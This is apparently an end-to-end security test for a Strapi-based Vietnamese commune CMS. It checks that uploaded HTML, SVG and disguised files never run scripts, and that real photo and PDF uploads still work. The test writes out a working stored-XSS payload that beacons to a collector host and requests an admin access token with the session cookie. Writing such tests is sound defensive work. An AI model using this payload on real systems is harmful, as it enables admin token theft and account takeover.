/**
 * Uploads are data, never code, on every origin we serve — in Chromium (issue 12, item 1).
 *
 * The attack: an HTML page and an SVG with a script (and HTML bytes named .png) got into the media
 * library before uploads were checked. Province IT, logged in to the admin panel (so the refresh
 * cookie exists and a script on the CMS origin could get an admin token), opens each of them on
 * the CMS origin and on the commune's site. No script may run and no token may be asked for.
 * Two controls prove the observation would see an attack: the same page served without our
 * defences runs its script, and a script on the CMS origin does get a token.
 *
 * The legitimate path: a contributor uploads a photo and a PDF in the media library (and sees
 * refusals explained in Vietnamese, in a dialog that still closes), the board publishes them,
 * and the site shows the photo inline and opens the PDF from the document page's link.
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import sharp from 'sharp';
import { ARTICLE, press } from '../support/board';
import { launchChromium } from '../support/browser';
import { type TestDatabase } from '../support/database';
import { AdminClient } from '../support/http';
import { pdf } from '../support/sample-files';
import { createSeededDatabase } from '../support/seeded';
import { startSite, type SiteInstance } from '../support/site';
import { SUPER_ADMIN, startStrapi, type StrapiInstance } from '../support/strapi';
import { createCommuneMember, UPLOADS_DIR } from '../support/uploads';
import { browserLogin } from '../support/admin-login';

const KHANH_KHE = { slug: 'khanh-khe', host: 'khanhkhe.langson.gov.vn' };
const DOCUMENT = 'api::document.document';
const PASSWORD = 'Rung-Tre-Doi-Nui-2026';
const CONTRIBUTOR = 'ctv.anh@thu.nghiem.vn';
const HEAD = 'truong.ban.anh@thu.nghiem.vn';
const SIZE_LIMIT = 300 * 1024;

let db: TestDatabase;
let strapi: StrapiInstance;
let site: SiteInstance;
let browser: Browser;
let contributor: AdminClient;
let head: AdminClient;
let headId = 0;
let communeId = 0;
let workDir = '';

/** Where a script that runs reports to: every hit is counted by path. */
let collector: Server;
let collectorPort = 0;
const collectorHits: string[] = [];
const planted: string[] = [];

const runs = () => collectorHits.filter((hit) => hit.startsWith('/ran') || hit.startsWith('/token')).length;

/** Polls `read` until `accept` holds (a browser does things in its own time). */
async function waitUntil<T>(read: () => Promise<T> | T, accept: (value: T) => boolean, timeoutMs = 15000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (accept(value)) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting; last value: ${JSON.stringify(value)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

const naturalWidth = (image: HTMLImageElement): number => (image.complete ? image.naturalWidth : 0);

/** The attacker's script: mark the page, report home, and ask for an admin token both ways. */
function attackScript(): string {
  const report = (what: string) => `new Image().src = 'http://127.0.0.1:${collectorPort}/${what}?at=' + encodeURIComponent(location.href)`;
  return [
    "document.title = 'PWNED';",
    `${report('ran')};`,
    `for (const url of ['/admin/access-token', '${strapi.url}/admin/access-token']) {`,
    "  fetch(url, { method: 'POST', credentials: 'include' }).then((r) => r.text()).then((text) => {",
    "    document.title = 'TOKEN ' + text.slice(0, 30);",
    `    ${report('token')} + '&body=' + encodeURIComponent(text.slice(0, 200));`,
    '  }).catch(() => {});',
    '}',
  ].join('\n');
}

/**
 * The attacker's page: the script inline and, as in the attack, also in a .js file uploaded next to
 * it (a same-origin script passes Strapi's own `script-src 'self'`, an inline one does not).
 */
const attackPage = (scriptUrl?: string) =>
  `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Biên bản họp</title></head><body><p>Biên bản họp</p><script>${attackScript()}</script>${
    scriptUrl ? `<script src="${scriptUrl}"></script>` : ''
  }</body></html>`;
const attackSvg = (scriptUrl: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="120" height="60"><title>Logo</title><rect width="120" height="60" fill="#a51d24"/><script><![CDATA[${attackScript()}]]></script><script href="${scriptUrl}"/></svg>`;

/** A file that got into the library before uploads were checked: on disk, with its row. */
async function plant(name: string, mime: string, content: string): Promise<string> {
  await writeFile(path.join(UPLOADS_DIR, name), content);
  planted.push(name);
  const dot = name.lastIndexOf('.');
  await db.query(
    `INSERT INTO files (document_id, name, hash, ext, mime, size, url, provider, folder_path, created_at, updated_at, published_at, commune_id)
     VALUES ($1, $2, $3, $4, $5, $6, $7, 'local', '/', now(), now(), now(), $8)`,
    [
      randomBytes(12).toString('hex'),
      name,
      name.slice(0, dot),
      name.slice(dot),
      mime,
      Buffer.byteLength(content) / 1000,
      `/uploads/${name}`,
      communeId,
    ],
  );
  return `/uploads/${name}`;
}

async function logIn(
  email: string,
  password: string,
  options: { acceptDownloads?: boolean } = {},
): Promise<{ context: BrowserContext; page: Page }> {
  return browserLogin(
    () =>
      browser.newContext({ viewport: { width: 1440, height: 1000 }, locale: 'vi-VN', acceptDownloads: options.acceptDownloads ?? false }),
    strapi.url,
    email,
    password,
  );
}

beforeAll(async () => {
  const seeded = await createSeededDatabase('e2e_upload_origins');
  db = seeded.db;
  seeded.setup.env.UPLOAD_SIZE_LIMIT = String(SIZE_LIMIT);
  strapi = await startStrapi(seeded.setup);
  site = await startSite({ strapiUrl: strapi.url, token: await strapi.publicToken() });
  browser = await launchChromium([KHANH_KHE.host]);
  workDir = await mkdtemp(path.join(tmpdir(), 'upload-origins-'));

  const superAdmin = await AdminClient.login(strapi.url, SUPER_ADMIN.email, SUPER_ADMIN.password);
  const [commune] = await db.query<{ id: number; document_id: string }>('SELECT id, document_id FROM communes WHERE slug = $1', [
    KHANH_KHE.slug,
  ]);
  if (!commune) throw new Error('no Khánh Khê');
  communeId = commune.id;
  contributor = await createCommuneMember(superAdmin, {
    email: CONTRIBUTOR,
    password: PASSWORD,
    role: 'commune-contributor',
    communeDocumentId: commune.document_id,
  });
  head = await createCommuneMember(superAdmin, {
    email: HEAD,
    password: PASSWORD,
    role: 'commune-board-head',
    communeDocumentId: commune.document_id,
  });
  headId = (await db.query<{ id: number }>('SELECT id FROM admin_users WHERE email = $1', [HEAD]))[0]?.id ?? 0;

  collector = createServer((req, res) => {
    collectorHits.push(req.url ?? '');
    if (req.url === '/attack.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(attackPage());
      return;
    }
    res.writeHead(204);
    res.end();
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  const address = collector.address();
  collectorPort = typeof address === 'object' && address ? address.port : 0;
});

afterAll(async () => {
  for (const name of planted) await rm(path.join(UPLOADS_DIR, name), { force: true });
  if (workDir) await rm(workDir, { recursive: true, force: true });
  await new Promise((resolve) => collector?.close(resolve));
  await browser?.close();
  await site?.stop();
  await strapi?.stop();
  await db?.drop();
});

describe('an uploaded page or SVG runs no script on any origin we serve', () => {
  it("opened by logged-in province IT on the CMS origin and on the commune's site: no script, no token", async () => {
    const stamp = Date.now();
    const script = await plant(`khanh-khe_tai_lieu_${stamp}.js`, 'application/javascript', attackScript());
    const html = await plant(`khanh-khe_bien_ban_hop_${stamp}.html`, 'text/html', attackPage(script));
    const svg = await plant(`khanh-khe_logo_${stamp}.svg`, 'image/svg+xml', attackSvg(script));
    const disguised = await plant(`khanh-khe_anh_hoi_nghi_${stamp}.png`, 'image/png', attackPage(script));
    const fakePdf = await plant(`khanh-khe_quyet_dinh_${stamp}.pdf`, 'application/pdf', attackPage(script));

    const { context, page: adminPage } = await logIn(SUPER_ADMIN.email, SUPER_ADMIN.password, { acceptDownloads: true });
    const tokenRequests: string[] = [];
    context.on('request', (request) => {
      if (request.url().includes('/admin/access-token')) tokenRequests.push(request.url());
    });

    // Control 1: a script on the CMS origin gets a fresh admin token with the refresh cookie.
    const controlStatus = await adminPage.evaluate(
      async () => (await fetch('/admin/access-token', { method: 'POST', credentials: 'include' })).status,
    );
    expect(controlStatus).toBe(200);
    // Control 2: the attacker's page, served without our defences, does run and is seen running.
    const control = await context.newPage();
    await control.goto(`http://127.0.0.1:${collectorPort}/attack.html`);
    await control.waitForFunction(() => document.title.startsWith('PWNED') || document.title.startsWith('TOKEN'));
    await waitUntil(runs, (count) => count > 0);
    await waitUntil(
      () => tokenRequests.length,
      (count) => count >= 3,
    );
    // Let its token requests settle before counting what the uploads do.
    await control.waitForTimeout(2000);
    await control.close();
    const runsBefore = runs();
    const tokenRequestsBefore = tokenRequests.length;

    const origins = [strapi.url, site.urlFor(KHANH_KHE.host)];
    const visits: Array<{ url: string; title: string; download: string | null; status: number | null; headers: Record<string, string> }> =
      [];
    for (const origin of origins) {
      for (const file of [html, svg, disguised, fakePdf]) {
        const page = await context.newPage();
        const download = page.waitForEvent('download', { timeout: 5000 }).catch(() => null);
        const response = await page.goto(`${origin}${file}`).catch(() => null);
        const downloaded = await download;
        await page.waitForTimeout(500);
        visits.push({
          url: `${origin}${file}`,
          title: await page.title().catch(() => ''),
          download: downloaded?.suggestedFilename() ?? null,
          status: response?.status() ?? null,
          headers: response?.headers() ?? {},
        });
        await downloaded?.cancel();
        await page.close();
      }
    }
    // Framed by a page on the CMS origin (where the admin's cookie would be in reach), too.
    const framing = await context.newPage();
    await framing.goto(`${strapi.url}/admin`);
    await framing.evaluate(
      (files) => {
        for (const file of files) {
          const frame = document.createElement('iframe');
          frame.src = file;
          document.body.append(frame);
          const object = document.createElement('object');
          object.data = file;
          document.body.append(object);
        }
      },
      [html, svg, disguised, fakePdf],
    );
    await framing.waitForTimeout(2000);
    await framing.close();

    // What matters first: nothing ran, nothing asked for a token.
    expect(runs()).toBe(runsBefore);
    expect(tokenRequests.slice(tokenRequestsBefore)).toEqual([]);
    expect(visits.filter((visit) => /^(PWNED|TOKEN)/.test(visit.title))).toEqual([]);
    // How: the .html and .svg are downloads on both origins; the disguised .png is only an (unreadable)
    // image; the disguised .pdf a download on the CMS origin and, on the site, a PDF the viewer cannot read.
    expect(visits).toHaveLength(8);
    for (const visit of visits) {
      const onSite = visit.url.startsWith(site.urlFor(KHANH_KHE.host));
      if (visit.url.endsWith('.png')) {
        expect(visit).toMatchObject({
          status: 200,
          download: null,
          headers: { 'content-type': 'image/png', 'x-content-type-options': 'nosniff' },
        });
        expect(visit.headers['content-security-policy']).toContain('sandbox');
      } else if (visit.url.endsWith('.pdf') && onSite) {
        expect(visit).toMatchObject({
          status: 200,
          download: null,
          headers: { 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' },
        });
      } else {
        expect(visit.download).toBe(path.basename(new URL(visit.url).pathname));
      }
    }
    await context.close();
  });
});

describe('a contributor still uploads a photo and a PDF, and the site shows them', () => {
  let photoName = '';
  let pdfName = '';

  it('uploads them in the media library, which shows the photo; refusals are explained and the dialog closes', async () => {
    const stamp = Date.now();
    photoName = `anh-hoi-nghi-${stamp}.jpg`;
    pdfName = `thong-bao-${stamp}.pdf`;
    const photo = await sharp({ create: { width: 800, height: 500, channels: 3, background: '#2f6b3a' } })
      .composite([{ input: Buffer.from('<svg width="800" height="500"><circle cx="600" cy="120" r="70" fill="#f5c542"/></svg>') }])
      .jpeg({ quality: 80 })
      .toBuffer();
    await writeFile(path.join(workDir, photoName), photo);
    await writeFile(path.join(workDir, pdfName), pdf('Thong bao lich tiep cong dan'));
    await writeFile(path.join(workDir, 'trang.html'), attackPage());
    await writeFile(
      path.join(workDir, 'anh-rat-lon.png'),
      await sharp(randomBytes(700 * 700 * 3), { raw: { width: 700, height: 700, channels: 3 } })
        .png()
        .toBuffer(),
    );

    const { context, page } = await logIn(CONTRIBUTOR, PASSWORD);
    await page.goto(`${strapi.url}/admin/plugins/upload`);
    const fileInput = page.locator('input[type="file"]').first();
    const drawer = page.getByRole('dialog');

    await fileInput.setInputFiles([path.join(workDir, photoName), path.join(workDir, pdfName)]);
    await drawer.getByText('Đã tải lên xong!').waitFor();
    await drawer.getByRole('button', { name: 'Đóng', exact: true }).click();
    await drawer.waitFor({ state: 'detached' });
    // The details drawer previews the PDF in a frame of the admin itself: shown inline, not downloaded.
    let downloads = 0;
    page.on('download', () => (downloads += 1));
    const preview = page.waitForResponse(
      (response) => response.url().includes('/uploads/') && response.url().includes(`thong_bao_${stamp}`),
    );
    await page.getByText(pdfName).first().click();
    const previewAnswer = await preview;
    expect(previewAnswer.status()).toBe(200);
    expect(previewAnswer.headers()).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': 'inline',
      'content-security-policy': "frame-ancestors 'self'",
    });
    await page.locator(`iframe[title="${pdfName}"]`).waitFor();
    await page.waitForTimeout(1000);
    expect(downloads).toBe(0);
    await page.keyboard.press('Escape');
    // The photo's thumbnail is an <img> on the CMS origin: it must still render there.
    const thumbnail = page.locator(`img[src*="anh_hoi_nghi_${stamp}"]`).first();
    await thumbnail.waitFor();
    await waitUntil(
      () => thumbnail.evaluate(naturalWidth),
      (width) => width > 0,
    );

    for (const [file, message] of [
      [
        'trang.html',
        'Tệp “trang.html” không được phép tải lên: chỉ nhận ảnh (JPG, PNG, WebP, GIF), PDF và tài liệu Word, Excel, PowerPoint, OpenDocument.',
      ],
      ['anh-rat-lon.png', /Tệp “anh-rat-lon\.png” quá lớn \(1,\d MB\): chỉ nhận tệp đến 300 KB\./],
    ] as const) {
      await fileInput.setInputFiles(path.join(workDir, file));
      await drawer.getByText('Tải lên không thành công').waitFor();
      await drawer.getByText(message).waitFor();
      await drawer.getByRole('button', { name: 'Đóng', exact: true }).click();
      await drawer.waitFor({ state: 'detached' });
    }
    const stored = await db.query<{ name: string; mime: string; commune_id: number }>(
      'SELECT name, mime, commune_id FROM files WHERE name IN ($1, $2, $3, $4) ORDER BY name',
      [photoName, pdfName, 'trang.html', 'anh-rat-lon.png'],
    );
    expect(stored).toEqual(
      [
        { name: photoName, mime: 'image/jpeg', commune_id: communeId },
        { name: pdfName, mime: 'application/pdf', commune_id: communeId },
      ].sort((a, b) => a.name.localeCompare(b.name)),
    );
    await context.close();
  });

  it("the content manager's upload dialog shows the refusal on the file and can be closed (after Strapi's own confirmation)", async () => {
    await writeFile(path.join(workDir, 'anh-gia.png'), attackPage());
    const { context, page } = await logIn(CONTRIBUTOR, PASSWORD);
    const confirmations: string[] = [];
    page.on('dialog', async (dialog) => {
      confirmations.push(dialog.message());
      await dialog.accept();
    });
    await page.goto(`${strapi.url}/admin/content-manager/collection-types/api::article.article/create`);
    await page.getByText('Chưa có mục nào. Bấm để thêm.').first().click();
    await page.getByText('Bấm để thêm tệp, hoặc kéo thả tệp vào ô này').first().click();
    await page.getByRole('dialog').getByRole('button', { name: 'Thêm tệp khác' }).click();
    await page.getByRole('dialog').locator('input[type="file"]').setInputFiles(path.join(workDir, 'anh-gia.png'));
    await page.getByRole('dialog').getByRole('button', { name: 'Tải 1 tệp lên thư viện' }).click();
    await page
      .getByRole('dialog')
      .getByText(
        'Nội dung tệp “anh-gia.png” không phải là ảnh PNG như phần mở rộng .png cho biết (tệp có thể đã bị đổi tên hoặc bị hỏng), nên không được tải lên. Chỉ nhận ảnh (JPG, PNG, WebP, GIF), PDF và tài liệu Word, Excel, PowerPoint, OpenDocument.',
      )
      .waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Hủy' }).click();
    // Strapi asks before dropping a file it did not upload; once confirmed, its picker is back.
    await page.getByRole('dialog').getByRole('button', { name: 'Thêm tệp khác' }).waitFor();
    expect(confirmations).toEqual(['Bạn có chắc? Còn tệp chưa được tải lên.']);
    await context.close();
  });

  it("once published by the board, the site shows the photo inline and opens the PDF from the document page's link", async () => {
    const fileId = async (name: string) => (await db.query<{ id: number }>('SELECT id FROM files WHERE name = $1', [name]))[0]?.id ?? 0;
    const publish = async (uid: string, documentId: string) => {
      expect((await press(contributor, uid, documentId, { action: 'submit' })).status).toBe(200);
      expect((await press(head, uid, documentId, { action: 'assign', assigneeId: headId })).status).toBe(200);
      expect((await press(head, uid, documentId, { action: 'send' })).status).toBe(200);
      expect((await press(head, uid, documentId, { action: 'approve', thenPublish: true })).status).toBe(200);
    };
    const article = await contributor.create(ARTICLE, {
      title: 'Hội nghị triển khai công tác tiếp công dân năm 2026',
      summary: 'Ủy ban nhân dân xã tổ chức hội nghị triển khai công tác tiếp công dân.',
      kind: 'tin',
      featured: false,
      cover: { image: await fileId(photoName), alt: 'Toàn cảnh hội nghị' },
      body: [{ type: 'paragraph', children: [{ type: 'text', text: 'Sáng nay, Ủy ban nhân dân xã tổ chức hội nghị.' }] }],
    });
    expect(article.status).toBe(201);
    await publish(ARTICLE, article.body.data.documentId);
    const document = await contributor.create(DOCUMENT, {
      number: '88',
      symbol: 'TB-UBND',
      documentType: 'Thông báo',
      issuingBody: 'UBND xã Khánh Khê',
      signer: 'Nông Văn Hải',
      signerPosition: 'Chủ tịch',
      issueDate: '2026-03-02',
      effectiveDate: '2026-03-02',
      field: 'Hành chính',
      summary: 'Thông báo lịch tiếp công dân tháng 3 năm 2026',
      files: [await fileId(pdfName)],
    });
    expect(document.status).toBe(201);
    await publish(DOCUMENT, document.body.data.documentId);

    const slug = (
      await db.query<{ slug: string }>('SELECT slug FROM articles WHERE document_id = $1 AND published_at IS NOT NULL', [
        article.body.data.documentId,
      ])
    )[0]?.slug;
    const context = await browser.newContext();
    const page = await context.newPage();
    const uploads = new Map<string, { status: number; headers: Record<string, string> }>();
    page.on('response', (response) => {
      if (new URL(response.url()).pathname.startsWith('/uploads/'))
        uploads.set(new URL(response.url()).pathname, { status: response.status(), headers: response.headers() });
    });

    expect((await page.goto(`${site.urlFor(KHANH_KHE.host)}/tin-tuc/${slug}`))?.status()).toBe(200);
    const cover = page.locator('img[src^="/uploads/khanh-khe_"][src*="anh_hoi_nghi"]').first();
    await waitUntil(
      () => cover.evaluate(naturalWidth),
      (width) => width > 0,
    );
    const coverPath = (await cover.getAttribute('src')) ?? '';
    expect(uploads.get(coverPath)).toMatchObject({
      status: 200,
      headers: { 'content-type': 'image/jpeg', 'content-disposition': 'inline', 'x-content-type-options': 'nosniff' },
    });

    expect((await page.goto(`${site.urlFor(KHANH_KHE.host)}/van-ban/${document.body.data.documentId}`))?.status()).toBe(200);
    // The document page links its PDF (no inline preview since issue 19): the reader opens it.
    const link = page.locator('a.pdf-open__link[href^="/uploads/"]');
    const pdfPath = (await link.getAttribute('href')) ?? '';
    expect(pdfPath).toMatch(/^\/uploads\/khanh-khe_thong_bao_\d+_[0-9a-f]+\.pdf$/);
    await Promise.all([page.waitForResponse((response) => new URL(response.url()).pathname === pdfPath), link.click()]);
    await waitUntil(
      () => uploads.get(pdfPath)?.status,
      (status) => status === 200,
    );
    const answer = uploads.get(pdfPath);
    expect(answer?.headers['content-type']).toBe('application/pdf');
    expect(answer?.headers['content-disposition']).toBe('inline');
    // No sandbox for the PDF (Chrome's viewer would refuse to show it); only the site may frame it.
    expect(answer?.headers['content-security-policy']).not.toContain('sandbox');
    expect(answer?.headers['content-security-policy']).toContain("frame-ancestors 'self'");
    await context.close();
  });
});
